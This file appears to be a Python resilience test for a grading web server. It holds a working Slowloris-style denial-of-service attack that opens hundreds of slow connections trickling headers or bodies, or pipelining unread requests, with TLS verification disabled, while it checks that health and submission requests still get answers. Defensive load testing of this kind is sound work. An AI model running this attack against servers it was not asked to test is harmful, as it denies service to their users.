"""Attack: connections that send their request, or take their answer, a byte at a time or not at all.

    python -m tests.hostile.web.slow_connections http://127.0.0.1:8080
    python -m tests.hostile.web.slow_connections https://grader.school.example --kind bodies --connections 100
    ATTACK_TOKEN=grd_… python -m tests.hostile.web.slow_connections http://127.0.0.1:8080 \
        --assignment COURSE/NAME --student somebody

Opens 500 connections (at most 2,000) for 20 s (at most 300) and sends one byte on each every 5 s: of a head
that never ends (headers), of a body that was announced with 1 MB (bodies); or asks each time 50 times for a
large file and reads nothing (readers). `mixed` is a third of each. Meanwhile it asks for /healthz again and
again, and with a token (scope submit) submits one small file a second. Then it closes everything.
Exit status 0: all was answered, each within --within seconds (1); 1: not; 2: the attack could not be tried.
"""

from __future__ import annotations

import argparse
import os
import re
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import requests

KINDS = ("headers", "bodies", "readers")
MOST_CONNECTIONS, MOST_SECONDS = 2_000, 300.0
REQUESTS_AT_ONCE = 50
"""Of a reader: all answers are more than the system keeps for a connection."""
PATIENCE_S = 10.0
"""After so long without an answer, a question counts as not answered."""


class NotTried(Exception):
    """The server did not let the attack begin."""


@dataclass(frozen=True)
class Target:
    """The server, and a file of it that is large."""

    base: str
    file: str

    @property
    def address(self) -> tuple[str, int]:
        """Host and port."""
        parts = urlsplit(self.base)
        return parts.hostname or "", parts.port or (443 if self.encrypted else 80)

    @property
    def encrypted(self) -> bool:
        """Whether it is asked by TLS."""
        return urlsplit(self.base).scheme == "https"

    def beginning(self, kind: str) -> bytes:
        """What a connection of this kind sends at once."""
        host = urlsplit(self.base).netloc
        head = f"HTTP/1.1\r\nHost: {host}\r\n"
        if kind == "headers":
            return f"GET /healthz {head}X-Slow: ".encode()
        if kind == "bodies":
            return f"POST /sign-in {head}Content-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n".encode()
        return f"GET {self.file} {head}\r\n".encode() * REQUESTS_AT_ONCE

    def further(self, kind: str) -> bytes:
        """What it sends now and then."""
        return self.beginning(kind) if kind == "readers" else b"x"


def _connected(target: Target, tls: ssl.SSLContext) -> socket.socket:
    """A connection that takes little before it is read."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(PATIENCE_S)
    connection.connect(target.address)
    return tls.wrap_socket(connection, server_hostname=target.address[0]) if target.encrypted else connection


def _careless() -> ssl.SSLContext:
    """Who attacks does not care who the server is."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


@dataclass
class Held:
    """The slow connections."""

    target: Target
    kinds: Sequence[str]
    every_s: float
    opened: int = 0
    closed: int = 0
    """By the server, so far."""
    _open: dict[socket.socket, str] = field(default_factory=dict)

    def open(self, count: int) -> None:
        """Open so many. Raises NotTried."""
        tls = _careless()
        for number in range(count):
            kind = self.kinds[number % len(self.kinds)]
            try:
                connection = _connected(self.target, tls)
            except OSError as error:
                if not self._open:
                    raise NotTried(f"no connection: {error}") from None
                return  # the server takes no more
            connection.setblocking(False)
            self._open[connection] = kind
            self.opened += 1
            self._send(connection, self.target.beginning(kind))

    def hold(self, ends: threading.Event) -> None:
        """Send a byte on each now and then, until told to end; then close them."""
        while not ends.wait(self.every_s):
            for connection, kind in list(self._open.items()):
                self._send(connection, self.target.further(kind))
        for connection in self._open:
            connection.close()

    def _send(self, connection: socket.socket, data: bytes) -> None:
        try:
            # of the socket under TLS, too: its own recv() knows no flags
            if self._open[connection] != "readers" and not socket.socket.recv(connection, 1, socket.MSG_PEEK):
                raise ConnectionResetError
        except BlockingIOError:
            pass  # nothing to read: it is still open
        except OSError:
            return self._drop(connection)
        with suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            try:
                connection.send(data)
            except (ConnectionError, TimeoutError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
                self._drop(connection)
        return None

    def _drop(self, connection: socket.socket) -> None:
        connection.close()
        del self._open[connection]
        self.closed += 1


@dataclass
class Questions:
    """How long the server took for what somebody else asked; `inf` without an answer."""

    within_s: float
    seconds: dict[str, list[float]] = field(default_factory=dict)

    def ask(self, name: str, question: Callable[[], requests.Response]) -> None:
        """Ask once."""
        began = time.monotonic()
        try:
            answered = question().ok
        except requests.RequestException:
            answered = False
        self.seconds.setdefault(name, []).append(time.monotonic() - began if answered else float("inf"))

    @property
    def in_time(self) -> bool:
        """Whether all of them were answered in time."""
        return all(max(each) <= self.within_s for each in self.seconds.values())

    def __str__(self) -> str:
        return "; ".join(
            f"{name}: {len(each)} asked, slowest {max(each):.2f} s" for name, each in self.seconds.items()
        )


def attack(
    base: str,
    *,
    kinds: Sequence[str],
    connections: int,
    seconds: float,
    every_s: float,
    questions: Questions,
    submit: Callable[[], requests.Response] | None = None,
) -> Held:
    """Hold the connections and ask meanwhile. Raises NotTried."""
    held = Held(Target(base, _large_file(base)), kinds, every_s)
    ends = threading.Event()
    held.open(min(connections, MOST_CONNECTIONS))
    thread = threading.Thread(target=held.hold, args=(ends,))
    thread.start()
    until = time.monotonic() + min(seconds, MOST_SECONDS)
    try:
        while time.monotonic() < until:
            questions.ask("/healthz", lambda: requests.get(f"{base}/healthz", timeout=PATIENCE_S))
            if submit is not None:
                questions.ask("a submission", submit)
            ends.wait(min(1.0, max(0.0, until - time.monotonic())))
    finally:
        ends.set()
        thread.join()
    return held


def _large_file(base: str) -> str:
    """The first style sheet of the sign-in page. Raises NotTried."""
    try:
        page = requests.get(f"{base}/sign-in", timeout=PATIENCE_S)
    except requests.RequestException as error:
        raise NotTried(f"{base} does not answer: {type(error).__name__}") from None
    found = re.search(r'<link[^>]+href="([^"]+\.css[^"]*)"', page.text)
    return found[1] if found else "/healthz"


def submission(base: str, token: str, assignment: str, student: str) -> Callable[[], requests.Response]:
    """Submits one small file by the API, another one each time."""

    def send() -> requests.Response:
        content = f"print({time.time()})\n".encode()
        return requests.post(
            f"{base}/api/v1/submissions",
            headers={"Authorization": f"Bearer {token}"},
            data={"assignment": assignment, "student": student},
            files={"files": ("work.py", content)},
            timeout=PATIENCE_S,
        )

    return send


def main(arguments: Sequence[str] | None = None) -> int:
    """The command."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("base", help="address of the server")
    parser.add_argument("--kind", choices=[*KINDS, "mixed"], default="mixed")
    parser.add_argument("--connections", type=int, default=500)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--every", type=float, default=5.0, help="seconds between two bytes")
    parser.add_argument("--within", type=float, default=1.0, help="seconds in which others must be answered")
    parser.add_argument("--assignment", help="COURSE/NAME to submit to; the token is ATTACK_TOKEN")
    parser.add_argument("--student", default="slow-connections")
    given = parser.parse_args(arguments)
    base, token = given.base.rstrip("/"), os.environ.get("ATTACK_TOKEN", "")
    submit = submission(base, token, given.assignment, given.student) if given.assignment else None
    questions = Questions(given.within)
    try:
        held = attack(
            base,
            kinds=KINDS if given.kind == "mixed" else (given.kind,),
            connections=given.connections,
            seconds=given.seconds,
            every_s=given.every,
            questions=questions,
            submit=submit,
        )
    except NotTried as error:
        print(f"not tried: {error}")
        return 2
    print(f"{held.opened} connections, {held.closed} closed by the server; {questions}")
    return 0 if questions.in_time else 1


if __name__ == "__main__":
    sys.exit(main())
